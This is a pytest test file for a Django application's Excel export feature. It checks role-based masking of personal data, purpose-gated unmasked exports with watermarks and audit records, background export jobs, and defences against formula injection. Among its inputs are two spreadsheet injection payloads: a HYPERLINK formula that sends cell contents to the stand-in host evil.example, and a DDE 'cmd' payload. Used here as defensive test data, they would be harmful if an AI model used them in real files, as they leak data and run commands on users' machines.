"""Excel exports: one path (direct below settings.EXPORT_SYNC_LIMIT, background above, the same file),
masked by default for every role, plaintext only with personal.export and a purpose (watermarked,
audited with the fields and the row count), formula-like text written as text, scope re-checked when
the background task runs."""

from __future__ import annotations

import io
import re

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from grassroots.core import excel, exports, import_jobs
from grassroots.core.importing import importer_for
from grassroots.core.masking import mask
from grassroots.core.models import AuditEvent, ExportJob
from grassroots.core.views import ScopedListView
from tests.factories import add_member

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
CMD = "=cmd|' /C calc'!A0"
MEMBERS = "list:party.MemberListView"


def _book(content: bytes):
    return load_workbook(io.BytesIO(content))


def _cells(content: bytes):
    return [c for row in _book(content).active.iter_rows() for c in row]


def _values(content: bytes) -> list[tuple]:
    return list(_book(content).active.iter_rows(values_only=True))


def _no_formula(content: bytes) -> list:
    cells = _cells(content)
    assert cells and [c.coordinate for c in cells if c.data_type == "f"] == []
    return [c.value for c in cells]


def _unmask(client, kind: str, purpose: str, **params):
    url = (
        reverse("core:export_unmask")
        + "?"
        + "&".join([f"export_kind={kind}"] + [f"{k}={v}" for k, v in params.items()])
    )
    return client.post(url, {"purpose": purpose})


# ------------------------------------------------------------------------------------ formula injection
@pytest.mark.parametrize("text", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", HYPERLINK, CMD])
def test_the_writer_writes_formula_like_text_as_text(text):
    buf = io.BytesIO()
    cols = [excel.Column("文本", lambda r: r), excel.Column("姓名", lambda r: r, personal="name")]
    excel.write_workbook(buf, "测试", cols, [text])
    ws = _book(buf.getvalue()).active
    # (XML reading turns a carriage return into a line feed; the cell is text either way)
    assert ws["A2"].data_type == "s" and ws["A2"].value == text.replace("\r", "\n")
    assert ws["B2"].data_type == "s" and ws["B2"].value.startswith(text[0].replace("\r", "\n"))  # masked


def test_workbooks_built_cell_by_cell_are_neutralised():
    wb = Workbook()
    wb.active.append(["=1+2", "安全", 3])
    buf = io.BytesIO()
    excel.save_workbook(wb, buf)
    assert _no_formula(buf.getvalue()) == ["=1+2", "安全", 3]


def test_member_named_like_a_formula_in_the_member_export(city, make_user, client_for):
    add_member(city.branches[0], HYPERLINK)
    admin = client_for(make_user("street_a", "street_admin", city.streets[0]))
    r = admin.get(reverse("party:members"), {"export": "xlsx"})
    assert r.status_code == 200 and HYPERLINK in _no_formula(r.content)
    # the import/export round trip of the console writes it as text too
    content, _count = import_jobs.export_bytes(importer_for("members", None))
    assert HYPERLINK in _no_formula(content)


def test_case_reporter_named_like_a_formula(ctx, make_case, client_for):
    make_case(reporter_name=CMD)
    c = client_for(ctx.street_admin)
    masked = _no_formula(c.get(reverse("cases:list"), {"export": "xlsx"}).content)
    assert CMD not in masked and mask("name", CMD) in masked
    plain = _unmask(c, "cases.list", "核对诉求人身份")
    assert plain.status_code == 200 and CMD in _no_formula(plain.content)


def test_wish_beneficiary_named_like_a_formula(vw, new_wish, city, make_user, client_for):
    new_wish(beneficiary_name="=1+2")
    url = reverse("volunteers:wishes")
    values = _no_formula(client_for(vw.admin0).get(url, {"export": "xlsx"}).content)
    assert mask("name", "=1+2") in values and "=1+2" not in values
    street = client_for(make_user("street_w", "street_admin", city.streets[0]))
    plain = _unmask(street, "list:volunteers.WishListView", "走访困难群众核实心愿")
    assert "=1+2" in _no_formula(plain.content)


# ------------------------------------------------------------------------------------ masking per role
@pytest.mark.parametrize(
    "role,node",
    [
        ("city_admin", "city"),
        ("street_admin", "street"),
        ("community_admin", "community"),
        ("grid_worker", "community"),
    ],
)
def test_every_role_exports_masked_and_is_audited(role, node, city, make_user, client_for):
    scope = {"city": city.city, "street": city.streets[0], "community": city.communities[0]}[node]
    user = make_user(f"u_{role}", role, scope)
    r = client_for(user).get(reverse("party:members"), {"export": "xlsx"})
    rows = _values(r.content)
    ids = {m.id_number for m in city.members}
    head = rows[0]
    assert head[0] != "" and not any(v in ids for row in rows for v in row)
    col = head.index("身份证号")
    assert all("*" in row[col] for row in rows[1:]) and len(rows) > 1
    event = AuditEvent.objects.filter(action="export", actor_id=user.pk).get()
    assert event.changes["rows"] == [None, len(rows) - 1] and event.purpose == ""
    assert "身份证号" in event.changes["fields"][1] and event.changes["unmasked_fields"] == [None, []]


def test_purpose_form_checks_the_permission_and_the_purpose(city, make_user, client_for):
    street = client_for(make_user("street_a", "street_admin", city.streets[0]))
    form = street.get(
        reverse("core:export_unmask"), {"export_kind": MEMBERS, "export_back": "/party/members/"}
    )
    html = form.content.decode()
    fields = re.search(r"data-fields>([^<]*)<", html).group(1).split("、")
    assert form.status_code == 200 and {"身份证号", "手机号", "房号"} <= set(fields)
    assert "含个人信息，严禁外传" in html
    before = AuditEvent.objects.filter(action="export").count()
    empty = _unmask(street, MEMBERS, "  ")
    assert empty.status_code == 400 and "请填写导出用途" in empty.content.decode()
    short = _unmask(street, MEMBERS, "看看")
    assert short.status_code == 400 and "至少 4 个字" in short.content.decode()
    assert AuditEvent.objects.filter(action="export").count() == before
    # a community admin holds no personal.export by default; a grid worker neither
    for role in ("community_admin", "grid_worker"):
        other = client_for(make_user(f"o_{role}", role, city.communities[0]))
        assert _unmask(other, MEMBERS, "走访核对党员信息").status_code == 403
    assert AuditEvent.objects.filter(action="export").count() == before
    # unknown kind, or an export without personal columns: 404
    assert _unmask(street, "nope", "走访核对党员信息").status_code == 404
    assert _unmask(street, "list:party.OrgListView", "走访核对党员信息").status_code == 404


def test_unmasked_export_has_a_watermark_and_names_the_fields(city, make_user, client_for):
    user = make_user("street_a", "street_admin", city.streets[0])
    user.display_name = "王街道"
    user.save()
    r = _unmask(client_for(user), MEMBERS, "换届选举核对党员名册", org=city.branches[0].code)
    rows = _values(r.content)
    mark = rows[0][0]
    assert mark.startswith("导出人：王街道（street_a）") and "用途：换届选举核对党员名册" in mark
    assert "含个人信息，严禁外传" in mark and rows[1][0] == "姓名"
    in_branch = [m for m in city.members if m.party_org_id == city.branches[0].pk]
    assert {r[rows[1].index("身份证号")] for r in rows[2:]} == {m.id_number for m in in_branch}
    event = AuditEvent.objects.filter(action="export", actor_id=user.pk).get()
    assert event.purpose == "换届选举核对党员名册" and event.changes["rows"] == [None, len(in_branch)]
    assert event.changes["unmasked_fields"] == [None, ["身份证号", "手机号", "房号"]]
    assert event.changes["filters"] == [None, {"org": city.branches[0].code}]


# ------------------------------------------------------------------------------------ one export path
def test_above_the_limit_the_background_file_equals_the_direct_one(city, make_user, client_for, settings):
    user = make_user("street_a", "street_admin", city.streets[0])
    c = client_for(user)
    query = {"export": "xlsx", "org": city.branches[0].code}
    direct = c.get(reverse("party:members"), query)
    assert direct.status_code == 200 and not ExportJob.objects.exists()
    settings.EXPORT_SYNC_LIMIT = 1
    r = c.get(reverse("party:members"), query)
    assert r.status_code == 302 and r["Location"] == reverse("core:exports")
    job = ExportJob.objects.get()
    assert (job.kind, job.params, job.owner_id) == (MEMBERS, {"org": city.branches[0].code}, user.pk)
    assert "排队中" in c.get(reverse("core:exports")).content.decode()
    exports.run(job.pk)
    job.refresh_from_db()
    assert job.state == "done" and job.row_count == len(_values(direct.content)) - 1
    background = b"".join(c.get(reverse("core:export_download", args=[job.pk])).streaming_content)
    assert _values(background) == _values(direct.content)
    # an unmasked export above the limit: queued with its purpose, watermarked, plaintext
    r = _unmask(c, MEMBERS, "换届选举核对党员名册", org=city.branches[0].code)
    job = ExportJob.objects.latest("id")
    assert r.status_code == 302 and job.purpose == "换届选举核对党员名册"
    exports.run(job.pk)
    rows = _values(exports.file_path(ExportJob.objects.get(pk=job.pk)).read_bytes())
    assert "换届选举核对党员名册" in rows[0][0] and rows[1:] != _values(direct.content)
    assert len(rows) == len(_values(direct.content)) + 1


def test_background_export_rechecks_the_scope(city, make_user, settings):
    user = make_user("comm_a", "community_admin", city.communities[0])
    job = exports.start_export(user, MEMBERS, {})
    assert job.total > 0
    user.assignments.all().delete()  # lost the scope before the worker ran
    exports.run(job.pk)
    job.refresh_from_db()
    assert job.state == "failed" and not job.stored_name and "权限" in job.error
    # moved to another community: the file holds that community's members only, never the old ones
    mover = make_user("comm_m", "community_admin", city.communities[0])
    job = exports.start_export(mover, MEMBERS, {})
    mover.assignments.update(region=city.communities[2])
    exports.run(job.pk)
    job.refresh_from_db()
    rows = _values(exports.file_path(job).read_bytes())
    old = {m.name for m in city.members if m.party_org.region_id == city.communities[0].pk}
    assert job.state == "done" and not old & {r[0] for r in rows[1:]}


def test_every_list_with_export_columns_is_an_export_kind():
    exports.discover()
    views = []

    def walk(cls):
        for sub in cls.__subclasses__():
            views.append(sub)
            walk(sub)

    walk(ScopedListView)
    with_columns = [v for v in views if v.model is not None and v.export_columns]
    assert len(with_columns) >= 20
    for view in with_columns:
        kind = exports.list_kind(view)
        assert kind in exports.KINDS and len(kind) <= ExportJob._meta.get_field("kind").max_length


def test_report_views_go_to_the_background_above_the_limit_too(vw, new_wish, client_for, settings):
    """A report view (rows built by the view itself) is replayed by the task as its owner."""
    new_wish()
    c = client_for(vw.admin0)
    url = reverse("volunteers:wish_stats")
    direct = c.get(url, {"export": "xlsx"})
    assert direct.status_code == 200 and len(_values(direct.content)) == 2
    settings.EXPORT_SYNC_LIMIT = 0
    r = c.get(url, {"export": "xlsx"})
    assert r.status_code == 302 and r["Location"] == reverse("core:exports")
    job = ExportJob.objects.get()
    assert job.kind == "view:volunteers:wish_stats" and job.total == 1
    exports.run(job.pk)
    job.refresh_from_db()
    assert job.state == "done" and _values(exports.file_path(job).read_bytes()) == _values(direct.content)
    event = AuditEvent.objects.filter(action="export").latest("id")
    assert event.model == "volunteers.wish" and event.changes["background"] == [None, True]
    # the owner lost the scope before the worker ran: the view refuses, the job fails, no file
    c.get(url, {"export": "xlsx"})
    job = ExportJob.objects.latest("id")
    vw.admin0.assignments.all().delete()
    exports.run(job.pk)
    job.refresh_from_db()
    assert job.state == "failed" and not job.stored_name
